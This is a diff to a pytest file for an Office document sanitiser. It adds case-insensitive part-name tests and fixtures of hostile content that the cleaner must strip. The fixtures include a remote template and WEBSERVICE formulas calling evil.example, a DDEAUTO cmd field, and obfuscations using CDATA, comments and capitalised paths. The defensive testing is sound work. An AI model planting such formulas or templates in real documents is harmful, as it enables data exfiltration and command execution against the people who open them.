@@ -73,6 +73,28 @@ def test_a_document_tells_its_text_and_not_its_author(content, kind):
     assert clean(once, kind) == once
 
 
+@pytest.mark.case("FA7", "SE-M5")
+@pytest.mark.parametrize(
+    ("make", "name", "other"),
+    [
+        (samples.docx_parts, "docProps/core.xml", "DocProps/Core.XML"),
+        (samples.docx_parts, "word/people.xml", "Word/People.xml"),
+        (samples.docx_parts, "word/media/image1.jpeg", "word/Media/image1.jpeg"),
+        (samples.xlsx_parts, "docProps/core.xml", "DOCPROPS/core.xml"),
+        (samples.xlsx_parts, "xl/comments1.xml", "XL/Comments1.xml"),
+        (
+            samples.xlsx_parts,
+            "xl/printerSettings/printerSettings1.bin",
+            "xl/PrinterSettings/printersettings1.bin",
+        ),
+    ],
+)
+def test_a_part_under_other_capitals_tells_nobody_either(make, name, other):
+    """Names of parts that differ in case only are one (ECMA-376 part 2, 6.2.2.3)."""
+    parts = {other if one == name else one: part for one, part in make().items()}
+    assert MARK.encode() not in seen(clean(samples.archive(parts), "open_xml"))
+
+
 @pytest.mark.case("FA7", "FA34")
 @pytest.mark.parametrize("make", [jpeg, png])
 def test_a_picture_is_written_anew_without_its_tags_and_with_its_pixels(make):
@@ -181,6 +203,15 @@ ACTIVE_DOCX = {
     "OLE object": {"word/embeddings/oleObject1.bin": b"\xd0\xcf\x11\xe0"},
     "control": {"word/activeX/activeX1.xml": "<a/>"},
     "program": {"word/media/a.jpeg": b"MZ\x90\x00"},
+    "remote template under capitals": {
+        "word/_rels/settings.xml.RELS": relations(
+            ("attachedTemplate", "https://evil.example/a.dotm", "External")
+        )
+    },
+    "field under capitals": {
+        "Word/header1.XML": f'<w:hdr xmlns:w="{samples.WORD}"><w:instrText>DDEAUTO cmd'
+        "</w:instrText></w:hdr>"
+    },
     "other document": {
         "word/_rels/document.xml.rels": relations(("aFChunk", "afchunk.mht")),
     },
@@ -225,6 +256,40 @@ ACTIVE_XLSX = {
     "service": xlsx('_xlfn.WEBSERVICE("http://evil.example/"&amp;A1)'),
     "service in references": xlsx("&#87;EBSERVICE (A1)"),
     "command": xlsx("cmd|'/c calc'!A0"),
+    "service in CDATA": xlsx('<![CDATA[WEBSERVICE("http://evil.example/")]]>'),
+    "service cut by a comment": xlsx('WEB<!-- -->SERVICE("http://evil.example/")'),
+    "service behind an attribute": xlsx(
+        **{
+            "xl/worksheets/sheet1.xml": f'<worksheet xmlns="{samples.CELLS}"><sheetData><row><c>'
+            '<f ca="/>">WEB<![CDATA[SERVICE]]>("http://evil.example/")</f></c></row></sheetData>'
+            "</worksheet>"
+        }
+    ),
+    "service under a prefix": xlsx(
+        **{
+            "xl/worksheets/sheet1.xml": f'<x-1:worksheet xmlns:x-1="{samples.CELLS}">'
+            "<x-1:f>WEBSERVICE(A1)</x-1:f></x-1:worksheet>"
+        }
+    ),
+    "service in a validation": xlsx(
+        **{
+            "xl/worksheets/sheet1.xml": f'<worksheet xmlns="{samples.CELLS}"><dataValidations>'
+            "<dataValidation><formula1>WEBSERVICE(A1)</formula1></dataValidation>"
+            "</dataValidations></worksheet>"
+        }
+    ),
+    "service in a table": xlsx(
+        **{
+            "xl/tables/table1.xml": f'<table xmlns="{samples.CELLS}"><calculatedColumnFormula>'
+            "WEBSERVICE(A1)</calculatedColumnFormula></table>"
+        }
+    ),
+    "service under capitals": xlsx(
+        **{
+            "XL/WorkSheets/sheet2.xml": f'<worksheet xmlns="{samples.CELLS}"><f>WEBSERVICE(A1)</f>'
+            "</worksheet>"
+        }
+    ),
 }
 
 
